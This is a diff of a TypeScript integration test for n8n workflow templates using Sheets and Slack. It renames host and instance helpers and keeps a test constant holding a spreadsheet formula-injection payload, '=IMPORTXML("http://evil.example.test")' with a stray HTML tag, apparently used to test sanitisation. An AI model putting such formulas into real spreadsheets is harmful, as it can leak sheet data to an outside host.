@@ -1,17 +1,17 @@
 import { eventually } from '../../host/eventually';
 import { ChatRoom, KITCHEN, MANAGERS } from './chat';
-import { onEachHost } from './context';
+import { onNewestHost } from './context';
 import { createSlackCredential, importGoogleCredential, useElsewhere } from './elsewhere';
-import { useInstance } from './instance';
+import { useOwnN8n } from './instance';
 import { useTemplates, withParameters } from './templates';
 
 const PODIL = -1001000000003;
 const UNKNOWN_CHAT = -1001000000099;
 const FORMULA = '=IMPORTXML("http://evil.example.test") <b>';
 
-onEachHost((host) => {
+onNewestHost((host) => {
 	const { sheets, slack, env } = useElsewhere();
-	const given = useInstance(host, 'sheets', { sampleMenu: true }, env);
+	const given = useOwnN8n(host, 'sheets', { sampleMenu: true }, env);
 	const { credentials, template, publish, changeStatus, placed, succeeded } = useTemplates(given);
 	const chat = new ChatRoom(given);
 
